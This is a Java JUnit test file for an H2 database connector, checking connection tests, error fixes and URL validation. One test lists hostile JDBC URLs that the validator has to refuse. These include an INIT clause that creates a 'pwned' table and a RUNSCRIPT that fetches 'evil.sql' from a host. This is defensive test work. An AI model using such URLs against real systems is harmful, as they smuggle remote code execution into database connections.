package io.millrace.connector.h2.internal;

import static org.assertj.core.api.Assertions.assertThat;

import io.millrace.connector.api.ConnectionCheck;
import io.millrace.connector.api.ConnectionCheck.Status;
import io.millrace.connector.api.ConnectionSettings;
import io.millrace.connector.api.ConnectorIds;
import io.millrace.connector.api.SettingDefinition;
import java.nio.file.Path;
import java.sql.DriverManager;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class H2ConnectorProviderTest {
    private final H2ConnectorProvider provider = new H2ConnectorProvider();

    @TempDir
    Path folder;

    @Test
    void describesItselfAsAValidTargetWithTheSecretMarked() {
        assertThat(ConnectorIds.isValid(provider.id())).isTrue();
        assertThat(provider.settings())
                .filteredOn(SettingDefinition::secret)
                .extracting(SettingDefinition::name)
                .containsExactly("password");
    }

    @Test
    void aReachableDatabaseWithAnAdministratorPasses() {
        String url = "jdbc:h2:file:" + folder.resolve("target");

        ConnectionCheck check = provider.testConnection(settings(url, "sa", ""));

        assertThat(check.successful()).as(check.toString()).isTrue();
        assertThat(check.steps())
                .extracting(ConnectionCheck.Step::name)
                .containsExactly("url", "connect", "privileges");
        assertThat(folder.resolve("target.mv.db")).exists();
    }

    @Test
    void aWrongPasswordFailsWithTheFix() throws Exception {
        String url = "jdbc:h2:file:" + folder.resolve("secured");
        try (var connection = DriverManager.getConnection(url, "owner", "right")) {
            connection.createStatement().execute("CREATE TABLE t(id INT)");
        }

        ConnectionCheck check = provider.testConnection(settings(url, "owner", "wrong"));

        assertThat(check.successful()).isFalse();
        ConnectionCheck.Step connect = check.steps().get(check.steps().size() - 1);
        assertThat(connect.name()).isEqualTo("connect");
        assertThat(connect.status()).isEqualTo(Status.FAILED);
        assertThat(connect.fix()).contains("Check the user and password");
    }

    @Test
    void aUserWithoutTheAdminRightIsToldHowToGrantIt() throws Exception {
        String url = "jdbc:h2:file:" + folder.resolve("shared");
        try (var connection = DriverManager.getConnection(url, "owner", "secret")) {
            connection.createStatement().execute("CREATE USER reader PASSWORD 'pw'");
        }

        ConnectionCheck check = provider.testConnection(settings(url, "reader", "pw"));

        assertThat(check.steps())
                .filteredOn(step -> step.name().equals("privileges"))
                .singleElement()
                .satisfies(step -> {
                    assertThat(step.status()).isEqualTo(Status.FAILED);
                    assertThat(step.fix())
                            .hasValueSatisfying(fix -> assertThat(fix).contains("ADMIN TRUE"));
                });
    }

    @Test
    void urlsThatRunCodeOrAreNotH2AreRefusedBeforeConnecting() {
        Path marker = folder.resolve("must-not-exist");
        for (String url : new String[] {
            "jdbc:h2:mem:x;INIT=CREATE TABLE pwned(id INT)",
            "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://127.0.0.1/evil.sql'",
            "jdbc:h2:file:" + marker + ";AUTO_SERVER=TRUE",
            "jdbc:postgresql://localhost/db",
            "jdbc:h2:",
            ""
        }) {
            ConnectionCheck check = provider.testConnection(settings(url, "sa", ""));

            assertThat(check.successful()).as(url).isFalse();
            assertThat(check.steps())
                    .as(url)
                    .singleElement()
                    .satisfies(step -> assertThat(step.name()).isEqualTo("url"));
        }
        assertThat(folder.resolve("must-not-exist.mv.db")).doesNotExist();
    }

    @Test
    void harmlessUrlSettingsAreAccepted() {
        ConnectionCheck check = provider.testConnection(
                settings("jdbc:h2:mem:ok;MODE=PostgreSQL;DB_CLOSE_DELAY=-1;DATABASE_TO_LOWER=TRUE", "sa", ""));

        assertThat(check.successful()).as(check.toString()).isTrue();
    }

    private static ConnectionSettings settings(String url, String user, String password) {
        return new ConnectionSettings(Map.of("url", url, "user", user), Map.of("password", password));
    }
}
